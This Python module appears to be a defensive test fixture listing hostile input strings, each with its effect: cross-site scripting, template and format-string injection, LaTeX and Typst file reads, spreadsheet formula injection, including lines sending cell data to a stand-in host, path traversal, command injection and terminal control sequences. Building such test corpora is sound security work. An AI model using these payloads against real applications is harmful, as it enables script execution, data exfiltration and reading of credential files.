"""Hostile values: the kind of attack, the value, and what it would do where it gets through."""

from typing import NamedTuple


class Payload(NamedTuple):
    kind: str
    text: str
    effect: str


TEXTS = [
    # HTML
    Payload("html", "<script>alert(1)</script>", "runs a script in the page"),
    Payload("html", '"><script>alert(1)</script>', "leaves a double-quoted attribute, then runs a script"),
    Payload("html", "'><img src=x onerror=alert(1)>", "leaves a single-quoted attribute, then runs a script"),
    Payload("html", '" onmouseover="alert(1)', "adds an event handler to the element"),
    Payload("html", "' autofocus onfocus='alert(1)", "adds an event handler that fires by itself"),
    Payload("html", "x onload=alert(1) y", "adds a handler where an attribute has no quotes"),
    Payload("html", "<svg/onload=alert(1)>", "runs a script from a drawing"),
    Payload("html", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "opens a page inside the page"),
    Payload("html", "<style>*{background:url(//x.invalid)}</style>", "restyles the page and tells who reads it"),
    Payload("html", "</style><script>alert(1)</script>", "ends the style sheet, then runs a script"),
    Payload("html", "</title><script>alert(1)</script>", "ends the title, then runs a script"),
    Payload("html", "</td></tr></table><h1>x</h1>", "breaks the table open and adds a heading"),
    Payload("html", "<!-- hidden", "hides the rest of the page"),
    Payload("html", "--><script>alert(1)</script><!--", "leaves a comment, as in a drawing, and runs a script"),
    Payload("html", "]]><script>alert(1)</script>", "leaves a CDATA section of a drawing"),
    Payload("html", "<base href='//x.invalid/'>", "sends all relative links elsewhere"),
    Payload("html", "<meta http-equiv=refresh content='0;url=//x.invalid'>", "sends the reader elsewhere"),
    Payload("html", "<form action='//x.invalid'><input name=password>", "asks the reader for a password"),
    Payload("html", "<math><mi><mglyph><style><img src=x onerror=alert(1)>", "changes meaning when it is parsed twice"),
    Payload("html", "&lt;script&gt;alert(1)&lt;/script&gt;", "becomes a script when it is unescaped once too often"),
    Payload("html", "&#60;img src=x onerror=alert(1)&#62;", "the same with numbered entities"),
    # JavaScript
    Payload("javascript", "javascript:alert(1)", "runs when it is the address of a link"),
    Payload("javascript", "data:text/html,<script>alert(1)</script>", "opens a page of its own"),
    Payload("javascript", "';alert(1)//", "ends a string in a script"),
    Payload("javascript", "</script><script>alert(1)</script>", "ends the script that it stands in"),
    Payload("javascript", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "becomes markup in JSON or a script"),
    Payload("javascript", "${alert(1)}", "is evaluated in a template string"),
    # Templates and format strings
    Payload("template", "{{ 7 * 7 }}", "is evaluated by a template engine"),
    Payload("template", "{% include '/etc/passwd' %}", "reads a file through a template engine"),
    Payload("format", "{0.__class__.__mro__}", "shows what is behind an object"),
    Payload("format", "{area.__init__.__globals__}", "shows the program's variables"),
    Payload("format", "{} {name} {n}", "takes another value's place, or stops the program"),
    Payload("format", "%s%s%n %(name)s", "takes another value's place in an old-style format"),
    Payload("format", "\\1\\g<0>", "takes another value's place in a substitution"),
    # Markdown
    Payload("markdown", "[click](javascript:alert(1))", "becomes a link that runs a script"),
    Payload("markdown", "![x](https://x.invalid/x.png)", "loads a picture that tells who reads the page"),
    Payload("markdown", "# Heading | a | b | **bold** `code`", "becomes a heading or a table"),
    Payload("markdown", "<https://x.invalid>", "becomes a link"),
    # LaTeX and mathematics
    Payload("latex", "$\\input{/etc/passwd}$", "reads a file"),
    Payload("latex", "\\immediate\\write18{id}", "runs a command"),
    Payload("latex", "$$", "stops the drawing of a chart: a formula without content"),
    Payload("latex", "$\\nosuchcommand$", "stops the drawing of a chart: a command that does not exist"),
    Payload("latex", "$\\href{javascript:alert(1)}{x}$", "becomes a link in JupyterLab"),
    # Typst
    Payload("typst", '#read("/etc/passwd")', "puts a file into the PDF"),
    Payload("typst", '#panic("x") #link("https://x.invalid")[x]', "stops the PDF, or puts a link into it"),
    Payload("typst", "*b* _i_ `r` <label> @ref // comment", "is read as markup"),
    Payload("typst", '"] #import "x.typ": * [', "leaves a string or a content block"),
    # Spreadsheets
    Payload("formula", "=cmd|' /C calc'!A0", "starts a program"),
    Payload("formula", '=HYPERLINK("http://x.invalid?"&A1,"x")', "sends the table elsewhere on a click"),
    Payload("formula", '=WEBSERVICE("http://x.invalid?"&A1)', "sends the table elsewhere"),
    Payload("formula", "+1+cmd|' /C calc'!A0", "a formula that begins with plus"),
    Payload("formula", "-1+cmd|' /C calc'!A0", "a formula that begins with minus"),
    Payload("formula", "@SUM(1+1)*cmd|' /C calc'!A0", "a formula that begins with an at sign"),
    Payload("formula", "\t=1+1", "a formula behind a tab"),
    Payload("formula", "\n=1+1", "a formula on the next line"),
    Payload("formula", " =1+1", "a formula behind a blank"),
    Payload("formula", "\ufeff=1+1", "a formula behind a mark that nobody sees"),
    Payload("formula", '"=1+1', "a formula behind a quote"),
    Payload("formula", "x;=1+1", "a cell of its own in a spreadsheet that splits at semicolons"),
    Payload("formula", 'x;"=1+1"', "the same, in quotes"),
    Payload("formula", "x\t=1+1", "the same where the file is split at tabs"),
    Payload("formula", "＝1+1", "a formula with a full-width sign"),
    # File names
    Payload("path", "../../../etc/passwd", "leaves the folder"),
    Payload("path", "..\\..\\windows\\win.ini", "leaves the folder on Windows"),
    Payload("path", "/etc/passwd", "is an absolute path"),
    Payload("path", "C:\\Windows\\win.ini", "is an absolute path on Windows"),
    Payload("path", "\\\\x.invalid\\share", "is a file on another machine"),
    Payload("path", "%2e%2e%2fpasswd", "leaves the folder after decoding"),
    Payload("path", "~/.ssh/id", "is in the home folder"),
    Payload("path", "x" * 5001, "is longer than a file name may be"),
    # Code
    Payload("code", "area; import os", "is a statement where a name is expected"),
    Payload("code", "__import__('os').system('id')", "runs a command"),
    Payload("code", '"; __import__("os").system("id"); "', "ends a string, then runs a command"),
    Payload("code", "x\nimport os", "is a line of its own in a cell"),
    Payload("code", "x\\", "escapes the quote that should end the string"),
    Payload("code", "\"\"\"'''", "ends a string of several lines"),
    Payload("code", "__class__", "is an attribute of every object"),
    Payload("code", "%run x.py", "is a command of IPython"),
    Payload("code", "!id", "is a shell command of IPython"),
    Payload("code", "$(id) `id` ; id", "is a shell command"),
    Payload("code", "!!python/object/apply:os.system ['id']", "makes a YAML reader run a command"),
    Payload("terminal", "[/bold] [link=https://x.invalid]x[/link]", "stops or fools the printing of a report"),
]

# Refused wherever text comes in: nothing can be shown for them.
CONTROL = [
    Payload("control", "a\x00b", "ends the text for programs in C; no PDF can be set"),
    Payload("control", "a\x08b", "makes a drawing or workbook that cannot be opened"),
    Payload("control", "\x1b[2Ja", "wipes the terminal"),
    Payload("control", "\x1b]0;a\x07", "renames the terminal's window"),
    Payload("control", "a\rb", "overwrites the line in a log"),
    Payload("control", "a\x85b", "is a line end for some programs only"),
    Payload("control", "a\u202egpj.exe", "shows what follows in reverse: 12 is read as 21"),
    Payload("control", "a\u2066b\u2069", "shows a part elsewhere than it stands"),
    Payload("control", "a\ud800b", "cannot be written as UTF-8"),
    Payload("control", "a\uffffb", "cannot be written as XML"),
]
